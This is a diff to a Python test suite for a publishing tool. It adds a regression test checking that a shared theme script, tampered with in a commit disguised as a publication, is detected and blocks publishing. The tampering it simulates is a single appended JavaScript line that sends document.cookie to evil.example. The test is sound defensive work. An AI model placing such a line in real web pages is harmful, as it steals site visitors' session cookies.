@@ -1022,9 +1022,32 @@ def test_a_shared_theme_script_replaced_by_hand_is_not_carried(published):
     project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
     result = project.run("publish")
     assert result.returncode == 1, result.stdout + result.stderr
-    assert f"error: {script[0]}: changed by commit " in result.stderr, result.stderr
-    assert "('Edit by hand'), none of publishing's" in result.stderr and "Traceback" not in result.stderr
+    assert f"error: {script[0]}: changed (" in result.stderr, result.stderr
+    assert "by commit " in result.stderr and "('Edit by hand')" in result.stderr and "Traceback" not in result.stderr
     assert project.branch() == edited
+
+
+def test_a_shared_theme_script_replaced_in_a_commit_given_publishings_subject_is_not_carried(published):
+    """Safety hunt 49: the same script edited in a hand commit named as a publication ('Publish 2021-02-17 (…') was
+    carried by the next `policy publish`, exit 0: a shared file was publishing's when a commit so named wrote it. The
+    folder is named after its list's digest: its files are now read against that list whoever wrote them."""
+    project = published
+    script: list[str] = []
+
+    def hand_edit(work):
+        script.append(_shared_script(work))
+        with open(work / script[0], "a", encoding="utf-8") as out:
+            out.write("\nfetch('https://evil.example/?' + document.cookie);\n")
+
+    _on_branch(project, hand_edit, "Publish 2021-02-17 (en, fr) from 0123456789ab")
+    edited = project.branch()
+    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
+    for command in ("publish", "history"):
+        result = project.run(command)
+        assert result.returncode == 1, result.stdout + result.stderr
+        assert f"error: {script[0]}: changed (" in result.stderr and "by commit " in result.stderr, result.stderr
+        assert "'Publish 2021-02-17 (en, fr)" in result.stderr and "not as published" in result.stderr
+        assert "Traceback" not in result.stderr and project.branch() == edited
 
 
 def test_a_hand_edit_of_the_newest_versions_manifest_reverted_since_does_not_block_publishing(published):
